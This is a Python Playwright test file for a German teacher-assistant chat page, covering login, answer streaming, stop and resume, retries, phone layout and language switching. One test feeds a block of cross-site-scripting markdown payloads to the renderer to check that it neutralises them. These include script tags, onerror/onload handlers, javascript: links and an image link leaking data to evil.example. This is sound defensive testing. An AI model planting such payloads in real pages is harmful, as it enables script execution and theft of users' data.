@@ -1,0 +1,277 @@
+"""The page at `/`, used as a teacher uses it: in a real browser, on the real server."""
+
+from collections.abc import AsyncIterator, Awaitable, Callable
+from urllib.parse import urlsplit
+
+import pytest
+from playwright.async_api import Browser, Page, async_playwright, expect
+
+from tests.conftest import CHROMIUM
+
+CHROMIUM_ARGUMENTS = [
+    "--no-sandbox",
+    "--disable-gpu",
+    "--disable-quic",
+    "--no-first-run",
+    "--disable-background-networking",
+    "--disable-component-update",
+    "--disable-sync",
+]
+pytestmark = pytest.mark.browser
+
+Visit = Callable[..., Awaitable[Page]]
+QUESTION = "Unterrichtsentwurf für Mathematik, Klasse 7, Thema Bruchrechnung, 45 Minuten"
+LAPTOP = {"width": 1366, "height": 768}
+PHONE = {"width": 360, "height": 740}
+ANSWER_MS = 30_000
+
+# The first answer arrives in pieces of 7 bytes, so frames and characters are cut in two,
+# and its connection breaks after 900 bytes.
+CUT_FIRST_ANSWER = """
+const realFetch = window.fetch;
+window.resumes = [];
+let cut = false;
+window.fetch = async (path, options) => {
+  if (String(path).includes("/events")) window.resumes.push(options.headers["Last-Event-ID"]);
+  const response = await realFetch(path, options);
+  if (path !== "/api/chat" || cut) return response;
+  cut = true;
+  let left = 900;
+  const saw = new TransformStream({
+    transform(chunk, controller) {
+      for (let at = 0; at < chunk.length; at += 7) controller.enqueue(chunk.slice(at, at + 7));
+      if ((left -= chunk.length) < 0) controller.error(new TypeError("cut"));
+    },
+  });
+  return new Response(response.body.pipeThrough(saw), response);
+};
+"""
+
+# What the teacher sees of the answer, each time it changes.
+WATCH = """
+new MutationObserver(() => {
+  const length = document.querySelector(".answer .markdown")?.textContent.length;
+  if (length && length !== seen.at(-1)) seen.push(length);
+  if (length && window.stopSoon) {
+    window.stopSoon = false;
+    document.querySelector("#composer-stop").click();
+  }
+}).observe(document, { childList: true, subtree: true, characterData: true });
+window.seen = [];
+"""
+
+HOSTILE = """
+# <img src=x onerror="window.hacked=1"> heading
+<script>window.hacked = 1</script> [a](javascript:alert(1)) [b](java&#115;cript:alert(1))
+[c](data:text/html,x) [d](//evil.example/x) [e](https://user@evil.example) <javascript:alert(1)>
+![picture](https://evil.example/leak?text=secret) **bold <svg onload=alert(1)>**
+[good](https://good.example/path "t\\" onmouseover=alert(1)")
+
+| <b onclick=alert(1)>cell</b> | [x](vbscript:x) |
+| --- | --- |
+| `</code><img src=x>` | <iframe src="https://evil.example"></iframe> |
+"""
+
+SAFE_TAGS = {"h2", "p", "br", "a", "strong", "code", "div"} | {
+    "table", "thead", "tbody", "tr", "th", "td"
+}  # fmt: skip
+
+
+@pytest.fixture
+async def visit(live_eduhu: str) -> AsyncIterator[Visit]:
+    """Open the page in a browser of its own; at the end nothing went outside, or wrong."""
+    outside: list[str] = []
+    wrong: list[str] = []
+
+    async with async_playwright() as playwright:
+        browser = await playwright.chromium.launch(
+            executable_path=CHROMIUM, args=CHROMIUM_ARGUMENTS
+        )
+
+        async def open_page(*, script: str = "", **options: object) -> Page:
+            page = await _new_page(browser, script, options)
+            page.on("request", lambda request: _note_outside(request.url, live_eduhu, outside))
+            page.on("pageerror", lambda error: wrong.append(str(error)))
+            page.on("console", lambda message: _note_error(message.type, message.text, wrong))
+            await page.goto(live_eduhu)
+            return page
+
+        yield open_page
+        await browser.close()
+    assert outside == []
+    assert wrong == []
+
+
+async def _new_page(browser: Browser, script: str, options: dict[str, object]) -> Page:
+    context = await browser.new_context(
+        **{"viewport": LAPTOP, "locale": "de-DE", "reduced_motion": "reduce", **options}
+    )
+    if script:
+        await context.add_init_script(script)
+    return await context.new_page()
+
+
+def _note_outside(url: str, home: str, outside: list[str]) -> None:
+    if urlsplit(url)[:2] != urlsplit(home)[:2]:
+        outside.append(url)
+
+
+def _note_error(kind: str, text: str, wrong: list[str]) -> None:
+    # The browser itself tells of each refused request; the tests refuse some on purpose.
+    if kind == "error" and not text.startswith("Failed to load resource"):
+        wrong.append(text)
+
+
+async def sign_in(page: Page, password: str = "eduhu-demo") -> None:
+    await page.fill("#login-email", "demo@eduhu.example")
+    await page.fill("#login-password", password)
+    await page.press("#login-password", "Enter")
+
+
+async def ask(page: Page, text: str = QUESTION) -> None:
+    await page.fill("#composer-input", text)
+    await page.press("#composer-input", "Enter")
+
+
+async def finished(page: Page) -> str:
+    """Wait for the end of the last answer and return what it says."""
+    await expect(page.locator(".answer").last.locator(".copy")).to_be_visible(timeout=ANSWER_MS)
+    return await answer_text(page)
+
+
+async def answer_text(page: Page) -> str:
+    return await page.locator(".answer .markdown").last.inner_text()
+
+
+async def test_wrong_password_is_explained_in_german(visit: Visit) -> None:
+    page = await visit()
+    await sign_in(page, "wrong")
+    message = page.locator("#login-message")
+    await expect(message).to_contain_text("Passwort")
+    await expect(page.locator("#workspace")).to_be_hidden()
+    await expect(page.locator("#login-email")).to_have_value("demo@eduhu.example")
+
+
+async def test_lesson_plan_streams_in_and_is_there_after_a_reload(visit: Visit) -> None:
+    page = await visit(script=WATCH)
+    await sign_in(page)
+    await page.locator("[data-example]").first.click()
+    await expect(page.locator("#composer-input")).to_have_value(QUESTION)
+    await page.press("#composer-input", "Enter")
+    whole = await finished(page)
+    seen = await page.evaluate("window.seen")
+    assert len(seen) > 5
+    assert seen[0] < seen[-1] / 2
+    await expect(page.locator(".answer .demo")).to_be_visible()
+    await expect(page.locator(".answer table tbody tr").first).to_be_visible()
+    await expect(page.locator("#chats a[aria-current=page]")).to_contain_text("Unterrichtsentwurf")
+    await page.reload()
+    assert await finished(page) == whole
+    await expect(page.locator(".question p")).to_have_text(QUESTION)
+
+
+async def test_stop_keeps_the_text_so_far(visit: Visit) -> None:
+    page = await visit(script=WATCH + "window.stopSoon = true;")
+    await sign_in(page)
+    await ask(page)
+    kept = await finished(page)
+    await expect(page.locator(".answer .state")).to_contain_text("Gestoppt")
+    await page.reload()
+    assert await finished(page) == kept
+
+
+async def test_broken_connection_is_taken_up_without_loss(visit: Visit) -> None:
+    page = await visit(script=CUT_FIRST_ANSWER)
+    await sign_in(page)
+    await ask(page)
+    followed = await finished(page)
+    resumes = await page.evaluate("window.resumes")
+    assert len(resumes) == 1
+    assert int(resumes[0]) > 0
+    await page.reload()
+    assert await finished(page) == followed
+
+
+@pytest.mark.claim(80)
+async def test_typed_text_survives_a_failure_and_is_sent_once(visit: Visit) -> None:
+    page = await visit()
+    await sign_in(page)
+    await page.route("**/api/chat", lambda route: route.abort())
+    await ask(page, "Elternbrief zum Wandertag")
+    await expect(page.locator("#notice")).to_contain_text("Keine Verbindung")
+    await expect(page.locator("#composer-input")).to_have_value("Elternbrief zum Wandertag")
+    await page.reload()
+    await expect(page.locator("#composer-input")).to_have_value("Elternbrief zum Wandertag")
+    await page.press("#composer-input", "Enter")
+    await expect(page.locator("#notice .retry")).to_be_visible()
+    await page.unroute("**/api/chat")
+    await page.click("#notice .retry")
+    await finished(page)
+    await expect(page.locator(".question")).to_have_count(1)
+    await expect(page.locator("#composer-input")).to_have_value("")
+
+
+async def test_hostile_markdown_stays_text(visit: Visit) -> None:
+    page = await visit()
+    page.on("dialog", lambda dialog: pytest.fail(f"a script ran: {dialog.message}"))
+    found = await page.evaluate(
+        """async (text) => {
+          const { MarkdownView } = await import("/static/chats/markdown.js");
+          const body = document.createElement("div");
+          document.body.append(body);
+          const view = new MarkdownView(body);
+          for (let end = 1; end <= text.length; end += 3) view.render(text.slice(0, end));
+          view.render(text);
+          const streamed = body.innerHTML;
+          const whole = document.createElement("div");
+          new MarkdownView(whole).render(text);
+          return {
+            tags: [...new Set([...body.querySelectorAll("*")].map((node) => node.localName))],
+            handlers: [...body.querySelectorAll("*")].flatMap((node) =>
+              node.getAttributeNames().filter((name) => name.startsWith("on"))),
+            links: [...body.querySelectorAll("a")].map((a) => [a.getAttribute("href"), a.rel]),
+            same: streamed === whole.innerHTML,
+            hacked: window.hacked ?? null,
+          };
+        }""",
+        HOSTILE,
+    )
+    assert set(found["tags"]) <= SAFE_TAGS
+    assert found["handlers"] == []
+    assert [href for href, _ in found["links"]] == [
+        "https://evil.example/leak?text=secret",  # a picture is only a link
+        "https://good.example/path",
+        "https://evil.example/",  # what was an iframe is words and a link to click, or not
+    ]
+    assert all(rel == "noopener noreferrer nofollow" for _, rel in found["links"])
+    assert found["same"]
+    assert found["hacked"] is None
+
+
+async def test_phone_fits_and_keeps_the_chats_in_a_drawer(visit: Visit) -> None:
+    page = await visit(viewport=PHONE, has_touch=True, is_mobile=True)
+    await sign_in(page)
+    await ask(page)
+    await finished(page)
+    widths = (
+        "[document.documentElement.scrollWidth, document.querySelector('#scroller').scrollWidth]"
+    )
+    assert max(await page.evaluate(widths)) <= PHONE["width"]
+    await expect(page.locator("#side")).to_be_hidden()
+    await page.click("#drawer-open")
+    await expect(page.locator("#chats a").first).to_be_visible()
+    await page.keyboard.press("Escape")
+    await expect(page.locator("#side")).to_be_hidden()
+    await expect(page.locator("#drawer-open")).to_be_focused()
+
+
+async def test_language_can_be_changed_for_page_and_api(visit: Visit) -> None:
+    page = await visit(locale="en-GB")
+    await expect(page.locator("#login-form h1")).to_have_text("Sign in")
+    await page.locator(".entry [data-toggle-language]").click()
+    await expect(page.locator("#login-form h1")).to_have_text("Anmelden")
+    await sign_in(page, "wrong")
+    await expect(page.locator("#login-message")).to_contain_text("Passwort")
+    await page.reload()
+    await expect(page.locator("#login-form h1")).to_have_text("Anmelden")
+    assert await page.locator("html").get_attribute("lang") == "de"
